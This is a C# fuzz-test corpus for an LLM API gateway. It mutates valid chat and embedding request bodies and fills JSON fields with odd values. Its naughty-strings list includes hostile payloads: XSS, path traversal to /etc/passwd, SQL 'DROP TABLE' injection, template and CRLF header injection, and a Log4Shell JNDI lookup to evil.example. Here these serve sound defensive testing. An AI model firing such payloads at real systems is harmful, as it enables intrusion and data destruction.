using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;

namespace SutazAi.Gateway.Tests.Hardening;

/// <summary>
/// IN-09 inputs from one seeded <see cref="Random"/>: byte mutations of valid bodies (zzuf-style, ratio 0.001 to 0.02)
/// and generated JSON documents that keep the routes' real field names but fill them with naughty strings, extreme
/// numbers, wrong types and odd nesting. Naughty values never contain what the leak check looks for.
/// </summary>
internal sealed class FuzzCorpus(Random random)
{
    public const string Model = "llama3:latest";

    /// <summary>Valid bodies per route, richer than RouteBodies so the mutations hit more of each DTO.</summary>
    public static readonly IReadOnlyDictionary<string, string[]> ValidBodies = new Dictionary<string, string[]>(StringComparer.Ordinal)
    {
        ["/v1/chat/completions"] =
        [
            """{"model":"llama3:latest","messages":[{"role":"user","content":"hi"}]}""",
            """{"model":"llama3:latest","messages":[{"role":"system","content":"be brief"},{"role":"user","content":"hi"}],"temperature":0.7,"top_p":0.9,"max_tokens":64,"stop":["\n"],"seed":42,"stream":false}""",
            """{"model":"llama3:latest","messages":[{"role":"user","content":[{"type":"text","text":"hi"}]}],"tools":[{"type":"function","function":{"name":"get_weather","description":"weather","parameters":{"type":"object","properties":{"city":{"type":"string"}}}}}],"tool_choice":"auto"}""",
            """{"model":"llama3:latest","messages":[{"role":"user","content":"hi"},{"role":"assistant","content":null,"tool_calls":[{"id":"c1","type":"function","function":{"name":"f","arguments":"{\"a\":1}"}}]},{"role":"tool","tool_call_id":"c1","content":"42"}],"response_format":{"type":"json_object"},"n":1}""",
        ],
        ["/v1/embeddings"] =
        [
            """{"model":"llama3:latest","input":"hi"}""",
            """{"model":"llama3:latest","input":["a","b"],"encoding_format":"float"}""",
            """{"model":"llama3:latest","input":"x","encoding_format":"base64","dimensions":3}""",
        ],
        ["/api/chat"] =
        [
            """{"model":"llama3:latest","messages":[{"role":"user","content":"hi"}],"stream":false}""",
            """{"model":"llama3:latest","messages":[{"role":"user","content":"hi","images":["aGVsbG8="]}],"stream":false,"format":"json","options":{"temperature":0.2,"num_ctx":2048,"num_predict":32},"keep_alive":"5m"}""",
            """{"model":"llama3:latest","messages":[{"role":"user","content":"hi"},{"role":"assistant","content":"","tool_calls":[{"function":{"name":"f","arguments":{"a":1}}}]},{"role":"tool","content":"1","tool_name":"f"}],"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object"}}}],"stream":false,"think":true}""",
        ],
        ["/api/generate"] =
        [
            """{"model":"llama3:latest","prompt":"hi","stream":false}""",
            """{"model":"llama3:latest","prompt":"hi","system":"s","template":"{{ .Prompt }}","raw":false,"stream":false,"options":{"seed":1,"stop":["x"]},"keep_alive":300}""",
            """{"model":"llama3:latest","prompt":"def f(","suffix":"return 1","stream":false,"format":{"type":"object","properties":{"a":{"type":"string"}}},"context":[1,2,3]}""",
        ],
        ["/api/embed"] =
        [
            """{"model":"llama3:latest","input":"hi"}""",
            """{"model":"llama3:latest","input":["a","b"],"truncate":true,"options":{"num_ctx":512},"keep_alive":"1m"}""",
        ],
        ["/api/v1/chat"] =
        [
            """{"message":"hi","model":"llama3:latest"}""",
            """{"message":"hi","model":"llama3:latest","temperature":0.5,"max_tokens":10}""",
        ],
    };

    private static readonly string[] s_fieldNames =
    [
        "model", "name", "messages", "role", "content", "thinking", "images", "tool_calls", "tool_name", "tool_call_id", "tools", "type",
        "function", "parameters", "description", "arguments", "stream", "format", "keep_alive", "options", "think", "truncate", "shift",
        "logprobs", "top_logprobs", "prompt", "suffix", "system", "template", "context", "raw", "input", "dimensions", "encoding_format",
        "message", "temperature", "max_tokens", "max_completion_tokens", "top_p", "n", "stream_options", "include_usage", "stop",
        "frequency_penalty", "presence_penalty", "logit_bias", "seed", "response_format", "json_schema", "schema", "strict", "tool_choice",
        "parallel_tool_calls", "reasoning_effort", "modalities", "audio", "prediction", "functions", "function_call", "text", "image_url",
        "url", "detail", "num_ctx", "num_predict", "top_k", "repeat_penalty", "index", "id",
    ];

    private static readonly string[] s_junkKeys =
    [
        "", " ", "MODEL", "Model", "model ", "__proto__", "constructor", "$ref", "\0", "😀", "a.b", "messages[0]", "\u202Emodel", new string('k', 1000),
    ];

    private static readonly string[] s_naughtyStrings =
    [
        "", " ", "\0", "a\0b", "\u200F", "\u202E", "\u202Dabc\u202C", "\uFEFF", "\u2028\u2029", "👍🏽", "🏳️‍🌈", "💩", "<script>alert(1)</script>",
        "%s%n%x%d", "../../etc/passwd", "..\\..\\windows\\win.ini", "'; DROP TABLE users; --", "{{7*7}}", "${jndi:ldap://evil.example/a}",
        "\r\nX-Injected: 1", "null", "true", "NaN", "Infinity", "-1", "0", Model, "llama3", "llama3:latest ", "../llama3", "llama3:../x",
        "http://localhost:11434/api/chat", "Ω≈ç√∫", "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ", "\t\n\r\b\f", "\\", "\"", "user", "assistant", "system",
        "tool", "function", "json", "float", "base64", "5m", "1h30m", "-1s", "aGVsbG8=", "data:image/png;base64,AAAA", new string('A', 10_000),
        new string('x', 70_000), string.Concat(Enumerable.Repeat("💩", 5_000)),
    ];

    /// <summary>Already-encoded string tokens the encoder would refuse to produce: lone surrogates, escaped NUL.</summary>
    private static readonly string[] s_rawStringTokens = ["\"\\ud800\"", "\"\\udc00x\"", "\"a\\ud83d\"", "\"\\u0000\"", "\"\\uDBFF\\uDFFF\"", "\"\\/\""];

    private static readonly string[] s_numbers =
    [
        "1e400", "-1e400", "-0", "0", "1.0e-400", "123456789012345678901234567890", "-123456789012345678901234567890",
        "9223372036854775807", "9223372036854775808", "-9223372036854775809", "2147483648", "-2147483649", "4294967296", "0.5", "-1",
        "1e308", "5e-324", "1E+2", "1.7976931348623157e309", "0.0000000000000000000000000001", "262145", "131073", "3",
        "1" + new string('0', 400),
    ];

    /// <summary>JSON punctuation, NUL, and bytes that are never valid UTF-8 (0xFF, 0xC0) or start a surrogate encoding (0xED).</summary>
    private static readonly byte[] s_interestingBytes = [.. "\"{}[],:\\0-e. "u8, 0x00, 0xFF, 0xC0, 0xED];

    /// <summary>Flips, inserts and deletes bytes; at least one edit, about body length × ratio of them.</summary>
    public byte[] Mutate(byte[] body)
    {
        var ratio = 0.001 + (random.NextDouble() * 0.019);
        var edits = Math.Max(1, (int)Math.Round(body.Length * ratio));
        var bytes = new List<byte>(body);
        for (var i = 0; i < edits; i++)
        {
            switch (random.Next(3))
            {
                case 0 when bytes.Count > 0:
                    var at = random.Next(bytes.Count);
                    bytes[at] = random.Next(2) == 0 ? (byte)(bytes[at] ^ (1 << random.Next(8))) : (byte)random.Next(256);
                    break;
                case 1 when bytes.Count > 1:
                    bytes.RemoveAt(random.Next(bytes.Count));
                    break;
                default:
                    bytes.Insert(random.Next(bytes.Count + 1), random.Next(2) == 0 ? s_interestingBytes[random.Next(s_interestingBytes.Length)] : (byte)random.Next(256));
                    break;
            }
        }

        return [.. bytes];
    }

    /// <summary>
    /// A syntactically valid JSON document for the route: mostly a perturbed valid body (fields replaced, dropped,
    /// renamed, duplicated, added), sometimes a random object, sometimes any JSON value at all.
    /// </summary>
    public string Document(string route)
    {
        var json = new StringBuilder();
        var kind = random.Next(10);
        if (kind < 6)
        {
            var templates = ValidBodies[route];
            using var template = JsonDocument.Parse(templates[random.Next(templates.Length)]);
            EmitPerturbed(json, template.RootElement, depth: 0, probability: 0.05 + (random.NextDouble() * 0.3));
        }
        else if (kind < 9)
        {
            EmitObject(json, depth: 0);
        }
        else
        {
            EmitValue(json, depth: 0);
        }

        return json.ToString();
    }

    private void EmitPerturbed(StringBuilder json, JsonElement element, int depth, double probability)
    {
        if (random.NextDouble() < probability)
        {
            EmitValue(json, depth);
            return;
        }

        switch (element.ValueKind)
        {
            case JsonValueKind.Object:
                json.Append('{');
                var first = true;
                foreach (var property in element.EnumerateObject())
                {
                    if (random.NextDouble() < probability / 2)
                    {
                        continue;
                    }

                    Separator(json, ref first);
                    EmitString(json, random.NextDouble() < probability / 2 ? Key() : property.Name);
                    json.Append(':');
                    EmitPerturbed(json, property.Value, depth + 1, probability);
                }

                while (random.NextDouble() < probability)
                {
                    Separator(json, ref first);
                    EmitString(json, Key());
                    json.Append(':');
                    EmitValue(json, depth + 1);
                }

                json.Append('}');
                break;
            case JsonValueKind.Array:
                json.Append('[');
                var firstItem = true;
                foreach (var item in element.EnumerateArray())
                {
                    var copies = random.NextDouble() < probability ? random.Next(3) : 1;
                    for (var i = 0; i < copies; i++)
                    {
                        Separator(json, ref firstItem);
                        EmitPerturbed(json, item, depth + 1, probability);
                    }
                }

                json.Append(']');
                break;
            default:
                json.Append(element.GetRawText());
                break;
        }
    }

    private void EmitValue(StringBuilder json, int depth)
    {
        switch (random.Next(depth >= 5 ? 4 : 8))
        {
            case 0:
                EmitString(json, s_naughtyStrings[random.Next(s_naughtyStrings.Length)]);
                break;
            case 1:
                json.Append(random.Next(4) == 0 ? s_rawStringTokens[random.Next(s_rawStringTokens.Length)] : s_numbers[random.Next(s_numbers.Length)]);
                break;
            case 2:
                json.Append(random.Next(3) switch { 0 => "true", 1 => "false", _ => "null" });
                break;
            case 3:
                EmitString(json, RandomText());
                break;
            case 4:
            case 5:
                EmitObject(json, depth + 1);
                break;
            case 6:
                json.Append('[');
                var first = true;
                for (var i = random.Next(5); i > 0; i--)
                {
                    Separator(json, ref first);
                    EmitValue(json, depth + 1);
                }

                json.Append(']');
                break;
            default:
                var nesting = random.Next(2) == 0 ? random.Next(20, 70) : random.Next(120, 300);
                var open = random.Next(2) == 0 ? "[" : "{\"a\":";
                json.Append(string.Concat(Enumerable.Repeat(open, nesting))).Append('1');
                for (var i = 0; i < nesting; i++)
                {
                    json.Append(open == "[" ? ']' : '}');
                }

                break;
        }
    }

    private void EmitObject(StringBuilder json, int depth)
    {
        json.Append('{');
        var first = true;
        if (random.Next(2) == 0)
        {
            first = false;
            json.Append("\"model\":");
            if (random.Next(3) == 0)
            {
                EmitValue(json, depth + 1);
            }
            else
            {
                EmitString(json, Model);
            }
        }

        for (var i = random.Next(6); i > 0; i--)
        {
            Separator(json, ref first);
            EmitString(json, Key());
            json.Append(':');
            EmitValue(json, depth + 1);
        }

        json.Append('}');
    }

    private string Key() => random.Next(5) == 0 ? s_junkKeys[random.Next(s_junkKeys.Length)] : s_fieldNames[random.Next(s_fieldNames.Length)];

    /// <summary>Random code points, controls included; surrogate halves are left out here (the raw tokens cover them).</summary>
    private string RandomText()
    {
        var text = new StringBuilder();
        for (var i = random.Next(1, 40); i > 0; i--)
        {
            var codePoint = random.Next(4) switch
            {
                0 => random.Next(0, 0x20),
                1 => random.Next(0x20, 0x7F),
                2 => random.Next(0x80, 0xD800),
                _ => random.Next(0x1F300, 0x1FAFF),
            };
            text.Append(char.ConvertFromUtf32(codePoint));
        }

        return text.ToString();
    }

    /// <summary>Half escaped as ASCII, half as raw UTF-8, so both decoding paths are exercised.</summary>
    private void EmitString(StringBuilder json, string value)
    {
        var encoder = random.Next(2) == 0 ? JavaScriptEncoder.Default : JavaScriptEncoder.UnsafeRelaxedJsonEscaping;
        json.Append('"').Append(JsonEncodedText.Encode(value, encoder).ToString()).Append('"');
    }

    private static void Separator(StringBuilder json, ref bool first)
    {
        if (!first)
        {
            json.Append(',');
        }

        first = false;
    }
}
